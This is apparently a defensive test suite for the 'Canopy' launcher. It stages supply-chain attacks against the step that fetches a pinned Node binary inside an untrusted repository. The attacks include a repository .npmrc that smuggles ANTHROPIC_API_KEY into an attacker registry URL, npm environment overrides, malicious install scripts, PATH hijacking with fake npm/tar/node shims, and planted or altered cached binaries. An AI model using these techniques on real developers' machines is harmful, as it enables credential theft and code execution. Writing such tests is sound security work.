// Starting Canopy inside a stranger's repository, on a machine where Node has to be fetched first.

import { execFile } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { delimiter, join } from 'node:path'
import { promisify } from 'node:util'
import { PACKAGES, VERSION } from '../../../programs/pinned-node.js'
import { writeRecord } from '../../../programs/private-cache.js'
import { limit } from '../../machine-speed.ts'
import { Registry } from '../../registry.ts'
import { write } from '../../workspace/repositories.ts'
import { type Attack, type AttackResult, couldNotRun, refused, succeeded } from '../attack.ts'

const programs = join(import.meta.dirname, '../../../programs')
const PLATFORM = `${process.platform}-${process.arch}`
const [PACKAGE = '', SHA512 = ''] = (PACKAGES as Record<string, string[]>)[PLATFORM] ?? []
const KEY = 'FAKE-ant-51c9e2'

interface Scene {
  readonly repository: string
  readonly cache: string
  readonly home: string
  /** A program that leaves the mark. */
  readonly program: string
  /** The attacker's registry. */
  readonly evil: Registry
  /** The one in the user's own `.npmrc`. */
  readonly own: Registry
  readonly environment: Record<string, string>
}

/** As the launcher does it, in the current directory and with the PATH of this process. */
const FETCH = `
import { homedir } from 'node:os'
import { pinnedNode } from '${programs}/pinned-node.js'
import { searchPath, withEnclosing } from '${programs}/search-path.js'
import { execFileSync } from 'node:child_process'
const path = searchPath(process.env.PATH, withEnclosing(process.cwd()), homedir())
execFileSync(pinnedNode({ environment: process.env, path, notice() {} }), ['--version'])`

async function starting(prepare: (scene: Scene) => void): Promise<AttackResult> {
  const root = mkdtempSync(join(tmpdir(), 'canopy-launch-'))
  await using evil = await new Registry().listen()
  await using own = await new Registry().listen()
  const mark = join(root, 'mark')
  const scene: Scene = {
    ...{
      repository: join(root, 'repository'),
      cache: join(root, 'cache/canopy/node'),
      home: join(root, 'home'),
    },
    ...{ program: join(root, 'program'), evil, own, environment: {} },
  }
  try {
    for (const folder of [scene.repository, scene.home]) mkdirSync(folder)
    write(root, {
      program: `#!/bin/sh\necho $ANTHROPIC_API_KEY > ${mark}\n`,
      'home/.npmrc': `registry=${own.url}\n`,
    })
    chmodSync(scene.program, 0o755)
    write(scene.repository, { '.git/HEAD': '', 'package.json': '{}' })
    prepare(scene)
    const said = await start(scene, root)
    if (existsSync(mark)) return succeeded('a program of the attacker ran')
    if (evil.requests.length > 0) return succeeded(`the attacker's registry heard ${evil.requests[0]}`)
    return said === '' ? couldNotRun('a Node was found') : refused(said)
  } finally {
    rmSync(root, { recursive: true, force: true })
  }
}

/** What it said when it gave up. */
async function start({ repository, home, environment }: Scene, root: string): Promise<string> {
  const env = {
    ...{ PATH: process.env.PATH, HOME: home, XDG_CACHE_HOME: join(root, 'cache'), ANTHROPIC_API_KEY: KEY },
    ...environment,
  }
  const options = { cwd: repository, env, timeout: limit(60_000) }
  return promisify(execFile)(process.execPath, ['--input-type=module', '-e', FETCH], options).then(
    () => '',
    (error: Error & { stderr: string }) => /Error: .*/.exec(error.stderr)?.[0] ?? error.message,
  )
}

const attackBy = (title: string, prepare: (scene: Scene) => void): Attack => ({
  title,
  needs: ['linux'],
  play: () => starting(prepare),
})

const nodeThat = (scene: Scene) => ({ 'bin/node': `#!/bin/sh\nexec ${scene.program}\n` })

export const attacks: Readonly<Record<string, Attack>> = {
  npmrc: attackBy('.npmrc in the current directory names a registry and asks for a key', (scene) => {
    scene.evil.publish(PACKAGE, VERSION, nodeThat(scene))
    write(scene.repository, { '.npmrc': `registry=${scene.evil.url}\${ANTHROPIC_API_KEY}/\n` })
  }),
  'npm-environment': attackBy('npm, started in the repository, hands on what its .npmrc says', (scene) => {
    scene.evil.publish(PACKAGE, VERSION, nodeThat(scene))
    scene.environment.npm_config_local_prefix = scene.repository
    scene.environment.npm_config_registry = scene.evil.url
  }),
  'other-package': attackBy('the registry gives another package of the same name and version', (scene) => {
    scene.own.publish(PACKAGE, VERSION, nodeThat(scene), {
      scripts: { preinstall: scene.program, prepack: scene.program, install: scene.program },
    })
  }),
  'search-path': attackBy('the PATH leads to npm, tar and node in the repository', (scene) => {
    const folders = ['node_modules/.bin', 'bin', '.']
    for (const folder of folders)
      for (const name of ['npm', 'tar', 'node']) {
        write(join(scene.repository, folder), { [name]: `#!/bin/sh\nexec ${scene.program}\n` })
        chmodSync(join(scene.repository, folder, name), 0o755)
      }
    const entries = ['', '.', 'bin', ...folders.map((folder) => join(scene.repository, folder))]
    scene.environment.PATH = [...entries, process.env.PATH].join(delimiter)
  }),
  'cache-of-others': attackBy('another user put a Node into a cache that all can write to', (scene) => {
    plant(scene)
    chmodSync(scene.cache, 0o777)
  }),
  'folder-above-the-cache': attackBy('another user can write to the folder above the cache', (scene) => {
    plant(scene)
    chmodSync(join(scene.cache, '..'), 0o777)
  }),
  'changed-program': attackBy('the program in the cache is no longer what was fetched', (scene) => {
    plant(scene, true)
  }),
}

/** A Node in the cache with a record that fits, unless it is changed afterwards. */
function plant({ cache, program }: Scene, changed = false): void {
  const name = `node-${VERSION}-${PLATFORM}`
  write(cache, { [name]: `#!/bin/sh\nexec ${program}\n` })
  for (const folder of [join(cache, '../..'), join(cache, '..'), cache]) chmodSync(folder, 0o700)
  const node = join(cache, name)
  chmodSync(node, 0o755)
  writeRecord(node, node, SHA512)
  if (changed) write(cache, { [name]: `#!/bin/sh\nexec  ${program}\n` })
}
